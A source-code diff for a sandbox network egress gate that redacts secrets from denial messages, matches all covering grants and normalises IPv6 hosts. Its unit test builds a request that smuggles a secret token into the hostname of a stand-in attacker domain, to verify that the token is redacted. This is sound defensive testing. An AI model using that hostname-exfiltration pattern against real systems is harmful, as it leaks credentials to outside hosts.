@@ -7,7 +7,8 @@
 //!
 //! Raw TCP (`wasi:sockets`) is checked by [`tcp_check`] against the TCP grants.
 
-use crate::grants::{Grants, NetGrant, SecretUse, special_range};
+use crate::grants::{Grants, SecretUse, special_range};
+use crate::secrets::Redactor;
 use crate::units::{ByteSize, Span};
 use bytes::Bytes;
 use http::uri::Scheme;
@@ -52,6 +53,30 @@ impl Denial {
         match self {
             Denial::NotGranted { .. } | Denial::Address { .. } => "net",
             Denial::Socket { .. } => "tcp",
+        }
+    }
+
+    /// The same denial with secret values taken out of the text the guest supplied.
+    pub fn redacted(self, redactor: &Redactor) -> Denial {
+        if redactor.is_empty() {
+            return self;
+        }
+        let clean = |t: String| redactor.redact(&t).into_owned();
+        match self {
+            Denial::NotGranted { method, target } => Denial::NotGranted {
+                method: clean(method),
+                target: clean(target),
+            },
+            Denial::Address {
+                target,
+                address,
+                range,
+            } => Denial::Address {
+                target: clean(target),
+                address,
+                range,
+            },
+            socket => socket,
         }
     }
 
@@ -107,6 +132,8 @@ pub struct EgressGate {
     limits: EgressLimits,
     component: Arc<str>,
     denial: Arc<OnceLock<Denial>>,
+    /// Hosts and methods in denials are the guest's text: secret values are taken out.
+    redactor: Arc<Redactor>,
 }
 
 /// The first refusal of a call, shared by the HTTP gate and the socket check.
@@ -118,12 +145,14 @@ impl EgressGate {
         limits: EgressLimits,
         component: Arc<str>,
         denial: DenialCell,
+        redactor: Arc<Redactor>,
     ) -> Self {
         EgressGate {
             grants,
             limits,
             component,
             denial,
+            redactor,
         }
     }
 }
@@ -182,8 +211,8 @@ fn refuse(denial: &OnceLock<Denial>, component: &str, d: Denial) -> Error {
 /// A request the grants admit, before its name is resolved.
 #[derive(Debug)]
 pub struct Admitted {
-    /// Index of the covering grant in `Grants::net`.
-    pub grant: usize,
+    /// Indices in `Grants::net` of every grant covering the request.
+    pub covering: Vec<usize>,
     pub https: bool,
     /// Lower case, without brackets or a trailing dot.
     pub host: String,
@@ -213,17 +242,31 @@ pub fn admit<B>(grants: &Grants, request: &mut http::Request<B>) -> Result<Admit
         .trim_end_matches('.')
         .to_ascii_lowercase();
     let port = uri.port_u16().unwrap_or(if https { 443 } else { 80 });
+    // One textual form per IPv6 address, as grants store them.
+    let host = match host.parse::<std::net::Ipv6Addr>() {
+        Ok(v6) => v6.to_string(),
+        Err(_) => host,
+    };
     let method = request.method().as_str();
-    let Some(grant) = grants
+    let covering: Vec<usize> = grants
         .net
         .iter()
-        .position(|g| g.covers(https, &host, port, method))
-    else {
+        .enumerate()
+        .filter(|(_, g)| g.covers(https, &host, port, method))
+        .map(|(i, _)| i)
+        .collect();
+    if covering.is_empty() {
+        let method = if crate::grants::METHODS.contains(&method) {
+            method.to_owned()
+        } else {
+            // The guest chose this text; it is not echoed.
+            "a non-standard method".to_owned()
+        };
         return Err(Denial::NotGranted {
-            method: method.to_owned(),
+            method,
             target: target(&host, port),
         });
-    };
+    }
     for secret in &grants.secrets {
         if let SecretUse::Header {
             host: pattern,
@@ -236,20 +279,23 @@ pub fn admit<B>(grants: &Grants, request: &mut http::Request<B>) -> Result<Admit
         }
     }
     Ok(Admitted {
-        grant,
+        covering,
         https,
         host,
         port,
     })
 }
 
-/// The first of `addresses` (the resolved name) the grant allows; otherwise the first refused
-/// address and its range (an empty list is refused as the unspecified address).
+/// The first of `addresses` (the resolved name) that one of the `covering` grants allows;
+/// otherwise the first refused address and its range (an empty list is refused as the
+/// unspecified address).
 pub fn pick_address(
-    grant: &NetGrant,
+    grants: &Grants,
+    covering: &[usize],
     addresses: &[SocketAddr],
 ) -> Result<SocketAddr, (IpAddr, &'static str)> {
-    if let Some(ok) = addresses.iter().find(|a| grant.allows_address(a.ip())) {
+    let allowed = |ip: IpAddr| covering.iter().any(|&i| grants.net[i].allows_address(ip));
+    if let Some(ok) = addresses.iter().find(|a| allowed(a.ip())) {
         return Ok(*ok);
     }
     let first = addresses
@@ -268,40 +314,37 @@ impl WasiHttpHooks for EgressGate {
         let admitted = match admit(&self.grants, &mut request) {
             Ok(a) => a,
             Err(d) => {
-                let e = refuse(&self.denial, &self.component, d);
+                let e = refuse(&self.denial, &self.component, d.redacted(&self.redactor));
                 return Box::new(async move { Err(e) });
             }
         };
-        let (grants, denial, component, limits) = (
+        let (grants, denial, component, limits, redactor) = (
             self.grants.clone(),
             self.denial.clone(),
             self.component.clone(),
             self.limits,
+            self.redactor.clone(),
         );
         Box::new(async move {
             let Admitted {
-                grant,
+                covering,
                 https,
                 host,
                 port,
             } = admitted;
-            let grant = &grants.net[grant];
             let addresses = resolve(&host, port, limits.timeout).await?;
-            let address = match pick_address(grant, &addresses) {
+            let address = match pick_address(&grants, &covering, &addresses) {
                 Ok(a) => a,
                 Err((address, range)) => {
-                    return Err(refuse(
-                        &denial,
-                        &component,
-                        Denial::Address {
-                            target: target(&host, port),
-                            address,
-                            range,
-                        },
-                    ));
+                    let d = Denial::Address {
+                        target: target(&host, port),
+                        address,
+                        range,
+                    };
+                    return Err(refuse(&denial, &component, d.redacted(&redactor)));
                 }
             };
-            tracing::debug!(target: "airlock::egress", %component, grant = %grant.id, %address, "egress allowed");
+            tracing::debug!(target: "airlock::egress", %component, grant = %grants.net[covering[0]].id, %address, "egress allowed");
             send(address, https, &host, request, limits).await
         })
     }
@@ -471,5 +514,30 @@ impl<B: Body<Data = Bytes, Error = Error> + Unpin> Body for Capped<B> {
 
     fn size_hint(&self) -> http_body::SizeHint {
         self.inner.size_hint()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::secrets::SecretStore;
+
+    #[test]
+    fn denials_never_echo_a_secret_the_guest_put_in_the_request() {
+        let mut store = SecretStore::default();
+        store.insert("TOKEN", "tok-0123456789".into()).unwrap();
+        let grants = Grants::default();
+        let mut request = http::Request::builder()
+            .method("TRACE")
+            .uri("https://tok-0123456789.evil.example/")
+            .body(())
+            .unwrap();
+        let d = admit(&grants, &mut request)
+            .unwrap_err()
+            .redacted(&store.redactor());
+        assert_eq!(
+            d.to_string(),
+            "network egress to [REDACTED:TOKEN].evil.example:443 (a non-standard method) is not granted"
+        );
     }
 }
